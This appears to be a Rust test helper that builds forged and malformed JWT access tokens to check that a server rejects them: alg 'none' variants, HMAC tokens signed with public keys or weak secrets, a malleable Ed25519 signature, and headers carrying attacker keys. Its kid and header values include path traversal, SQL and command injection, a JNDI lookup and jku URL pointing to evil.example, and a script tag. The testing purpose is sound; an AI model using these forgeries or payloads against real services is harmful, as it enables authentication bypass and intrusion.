//! Access tokens that attackers make, with and without keys: each is wrong in one way.

use base64::{
    Engine,
    prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD as BASE64},
};
use jsonwebtoken::{Algorithm, EncodingKey, Header, crypto, decode_header, encode, jwk::Jwk};
use serde_json::{Value, json};

/// What is wrong with a token, and the token.
pub(crate) type Bad = (String, String);

/// A private key that no server has (RFC 8410).
const FOREIGN: [u8; 48] = {
    let mut der = [7; 48];
    let prefix =
        [0x30, 0x2e, 0x02, 0x01, 0x00, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x04, 0x22, 0x04, 0x20];
    let mut at = 0;
    while at < prefix.len() {
        der[at] = prefix[at];
        at += 1;
    }
    der
};
/// The order of the group of Ed25519, little-endian: a signature and that plus one of these were the same to a careless
/// server (RFC 8032, section 5.1.7).
const ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];
/// Where an attacker's key would be.
const ELSEWHERE: &str = "https://evil.example/keys.json";

/// The claims of a token.
pub(crate) fn claims_of(token: &str) -> Value {
    json_of(token.split('.').nth(1).expect("claims"))
}

fn json_of(part: &str) -> Value {
    serde_json::from_slice(&BASE64.decode(part).expect("base64")).expect("JSON")
}

fn bad(what: impl Into<String>, token: impl Into<String>) -> Bad {
    (what.into(), token.into())
}

/// What is made of a token that is right, without any key.
pub(crate) fn made_without_a_key(right: &str) -> Vec<Bad> {
    let parts: Vec<&str> = right.split('.').collect();
    let [header, payload, signature] = parts[..] else { panic!("a JWT has three parts") };
    let mut all = with_another_header(header, payload, signature);
    all.extend(with_other_parts(header, payload, signature));
    all.extend(in_another_form(right));
    all
}

fn with_another_header(header: &str, payload: &str, signature: &str) -> Vec<Bad> {
    let with = |name: &str, value: Value| {
        let mut header = json_of(header);
        header[name] = value;
        BASE64.encode(header.to_string())
    };
    let mut all = Vec::new();
    for algorithm in ["none", "None", "nOnE", "NONE"] {
        let none = with("alg", json!(algorithm));
        all.push(bad(format!("alg {algorithm}, without a signature"), format!("{none}.{payload}.")));
        all.push(bad(format!("alg {algorithm}, two parts"), format!("{none}.{payload}")));
        let signed = format!("{none}.{payload}.{signature}");
        all.push(bad(format!("alg {algorithm}, with a signature"), signed));
    }
    let algorithms = ["", "RS256", "PS512", "ES256", "HS384", "HS512", "EdDSA ", "Ed448", "../none"];
    let kids = [
        "unknown",
        "",
        "../../../../dev/null",
        "/proc/self/environ",
        "..\\..\\windows\\win.ini",
        "' OR 1=1; --",
        "x' UNION SELECT 'AAAA",
        "| sleep 5",
        "${jndi:ldap://evil.example/a}",
        ELSEWHERE,
        "\0",
        "kid\r\nX-Admin: yes",
    ];
    let mut changed: Vec<(&str, Value)> = Vec::new();
    changed.extend(algorithms.map(|algorithm| ("alg", json!(algorithm))));
    changed.extend([Value::Null, json!(1), json!(["EdDSA"]), json!({})].map(|value| ("alg", value)));
    changed.extend(kids.map(|kid| ("kid", json!(kid))));
    changed.extend([json!("k".repeat(1_000)), json!("k".repeat(100_000))].map(|kid| ("kid", kid)));
    changed.extend([Value::Null, json!(0), json!([]), json!({}), json!(true)].map(|kid| ("kid", kid)));
    changed.extend(["JWT", "", "at+jwt ", "jose"].map(|kind| ("typ", json!(kind))));
    changed.extend([("typ", Value::Null), ("crit", json!(["exp"])), ("zip", json!("DEF"))]);
    changed.extend(["jku", "x5u"].map(|name| (name, json!(ELSEWHERE))));
    for (name, value) in changed {
        let what: String = format!("{name} {value}").chars().take(80).collect();
        all.push(bad(what, format!("{}.{payload}.{signature}", with(name, value))));
    }
    let kid = json_of(header)["kid"].clone();
    for (what, raw) in [
        ("two algorithms", format!(r#"{{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":{kid}}}"#)),
        ("two kids", format!(r#"{{"alg":"EdDSA","typ":"at+jwt","kid":"unknown","kid":{kid}}}"#)),
        ("no algorithm", format!(r#"{{"typ":"at+jwt","kid":{kid}}}"#)),
        ("no kid", r#"{"alg":"EdDSA","typ":"at+jwt"}"#.to_owned()),
        ("an empty header", "{}".to_owned()),
        ("a list for a header", r#"["EdDSA"]"#.to_owned()),
        ("no JSON for a header", "EdDSA".to_owned()),
        ("deep JSON for a header", "[".repeat(2_000)),
    ] {
        all.push(bad(what, format!("{}.{payload}.{signature}", BASE64.encode(raw))));
    }
    all
}

fn with_other_parts(header: &str, payload: &str, signature: &str) -> Vec<Bad> {
    let mut all = Vec::new();
    let mut later = json_of(payload);
    later["exp"] = json!(later["exp"].as_i64().unwrap_or_default() + 3_600);
    let mut somebody = json_of(payload);
    somebody["sub"] = json!("01923e5a-7b1c-7d3e-8f10-2a3b4c5d6e7f");
    for (what, claims) in [
        ("a later end", later.to_string()),
        ("somebody else", somebody.to_string()),
        ("no claims", "{}".to_owned()),
        ("a list of claims", "[]".to_owned()),
        ("no JSON for claims", "claims".to_owned()),
    ] {
        all.push(bad(what, format!("{header}.{}.{signature}", BASE64.encode(claims))));
    }
    let mut bytes = BASE64.decode(signature).expect("base64");
    let zeros = BASE64.encode(vec![0; bytes.len()]);
    all.push(bad("a signature of zeros", format!("{header}.{payload}.{zeros}")));
    all.push(bad("an empty signature", format!("{header}.{payload}.")));
    all.push(bad("a short signature", format!("{header}.{payload}.{}", BASE64.encode(&bytes[..16]))));
    let twice = BASE64.encode([bytes.as_slice(), &bytes].concat());
    all.push(bad("a signature twice", format!("{header}.{payload}.{twice}")));
    if bytes.len() == 64 {
        let mut carry = 0;
        for (byte, order) in bytes[32..].iter_mut().zip(ORDER) {
            let sum = u16::from(*byte) + u16::from(order) + carry;
            (*byte, carry) = (sum.to_le_bytes()[0], sum >> 8);
        }
        let signature = BASE64.encode(&bytes);
        all.push(bad("the same signature, written otherwise", format!("{header}.{payload}.{signature}")));
    }
    all.push(bad("a huge payload", format!("{header}.{}.{signature}", "A".repeat(20_000))));
    all.push(bad("a huge header", format!("{}.{payload}.{signature}", "A".repeat(20_000))));
    all.push(bad("a huge signature", format!("{header}.{payload}.{}", "A".repeat(20_000))));
    all
}

fn in_another_form(right: &str) -> Vec<Bad> {
    let parts: Vec<&str> = right.split('.').collect();
    let mut all = vec![
        bad("two parts", parts[..2].join(".")),
        bad("four parts", format!("{right}.{}", parts[2])),
        bad("five parts", format!("{}..{}.{}.{}", parts[0], parts[1], parts[1], parts[2])),
        bad("a byte more", format!("{right}A")),
        bad("a dot more", format!("{right}.")),
        bad("a dot before", format!(".{right}")),
        bad("quotes", format!("\"{right}\"")),
        bad("twice", format!("{right}{right}")),
        bad("twice, with a comma", format!("{right},{right}")),
        bad("twice, with a space", format!("{right} {right}")),
        bad("a space within", right.replacen('.', ". ", 1)),
        bad("a tab within", right.replacen('.', "\t.", 1)),
        bad("dots in per cent", right.replace('.', "%2E")),
        bad("other dots", right.replace('.', ":")),
        bad("upper case", right.to_uppercase()),
        bad("lower case", right.to_lowercase()),
        bad("backwards", right.chars().rev().collect::<String>()),
        bad("as JSON", json!({ "header": parts[0], "payload": parts[1], "signature": parts[2] }).to_string()),
        bad("three words", "not.a.token"),
        bad("dots", ".."),
        bad("a dot", "."),
        bad("null", "null"),
        bad("undefined", "undefined"),
        bad("an id", "01923e5a-7b1c-7d3e-8f10-2a3b4c5d6e7f"),
        bad("SQL", "' OR '1'='1"),
        bad("a script", "<script>alert(1)</script>"),
        bad("letters that are none of base64", "ä.ö.ü"),
        bad("zeros", "0".repeat(3_000)),
    ];
    for (number, what) in ["header", "payload", "signature"].into_iter().enumerate() {
        let with = |part: String| {
            let mut parts: Vec<String> = parts.iter().map(|part| (*part).to_owned()).collect();
            parts[number] = part;
            parts.join(".")
        };
        let bytes = BASE64.decode(parts[number]).expect("base64");
        all.push(bad(format!("{what} with padding"), with(format!("{}==", parts[number]))));
        all.push(bad(format!("{what} in hexadecimal"), with(hexadecimal(&bytes))));
        all.push(bad(format!("{what} encoded twice"), with(BASE64.encode(parts[number]))));
        all.push(bad(format!("no {what}"), with(String::new())));
        let standard = BASE64_STANDARD.encode(&bytes);
        if standard != parts[number] {
            all.push(bad(format!("{what} in the other base64"), with(standard)));
        }
    }
    all
}

fn hexadecimal(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// What is signed with keys that others may have, in the name of the key of a token that is right.
pub(crate) fn signed_with_other_keys(right: &str, public_keys: &[Value]) -> Vec<Bad> {
    let claims = claims_of(right);
    let kid = decode_header(right).expect("a header").kid;
    let header = |algorithm| Header { kid: kid.clone(), ..typed(algorithm) };
    let sign = |algorithm, key: &EncodingKey| encode(&header(algorithm), &claims, key).expect("a token");
    let foreign = EncodingKey::from_ed_der(&FOREIGN);
    let mut all = vec![bad("a foreign key", sign(Algorithm::EdDSA, &foreign))];
    for secret in ["secret", "", "plaza", "0", "your-256-bit-secret"] {
        for algorithm in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
            let what = format!("the secret {secret:?}, {algorithm:?}");
            all.push(bad(what, sign(algorithm, &EncodingKey::from_secret(secret.as_bytes()))));
        }
    }
    for key in public_keys {
        let x = key["x"].as_str().expect("a key");
        let bytes = BASE64.decode(x).expect("base64");
        let secrets = [
            ("the public key", bytes.clone()),
            ("the text of the public key", x.as_bytes().to_vec()),
            ("the public key in hexadecimal", hexadecimal(&bytes).into_bytes()),
            ("the published key", key.to_string().into_bytes()),
        ];
        for (what, secret) in secrets {
            for algorithm in [Algorithm::HS256, Algorithm::HS512] {
                let key = EncodingKey::from_secret(&secret);
                all.push(bad(format!("{algorithm:?} with {what}"), sign(algorithm, &key)));
            }
        }
    }
    all.extend(with_a_key_of_their_own(&claims, kid.as_deref().unwrap_or_default(), &foreign));
    all
}

/// What brings the key along that it is signed with, or tells where that is.
fn with_a_key_of_their_own(claims: &Value, kid: &str, key: &EncodingKey) -> Vec<Bad> {
    let jwk = Jwk::from_encoding_key(key, Algorithm::EdDSA).expect("a public key");
    let jwk = serde_json::to_value(&jwk).expect("JSON");
    let certificate = BASE64_STANDARD.encode(FOREIGN);
    let brought = [
        ("jwk", jwk.clone()),
        ("jwks", json!({ "keys": [jwk] })),
        ("jku", json!(ELSEWHERE)),
        ("jku", json!("file:///dev/stdin")),
        ("x5u", json!(ELSEWHERE)),
        ("x5c", json!([certificate])),
        ("x5t", json!("dGh1bWJwcmludA")),
        ("x5t#S256", json!("dGh1bWJwcmludA")),
        ("key", jwk),
    ];
    let sign = |header: &Value| {
        let said = format!("{}.{}", BASE64.encode(header.to_string()), BASE64.encode(claims.to_string()));
        let signature = crypto::sign(said.as_bytes(), key, Algorithm::EdDSA).expect("a signature");
        format!("{said}.{signature}")
    };
    let mut all = Vec::new();
    for (name, value) in brought {
        for kid in [json!(kid), json!("theirs"), Value::Null] {
            let mut header = json!({ "alg": "EdDSA", "typ": "at+jwt", "kid": kid });
            header[name] = value.clone();
            all.push(bad(format!("{name} of their own, kid {kid}"), sign(&header)));
        }
    }
    all
}

/// A header of the right type, and without a name of a key: as an earlier version wrote it, with HS256.
pub(crate) fn typed(algorithm: Algorithm) -> Header {
    Header { typ: Some("at+jwt".to_owned()), ..Header::new(algorithm) }
}
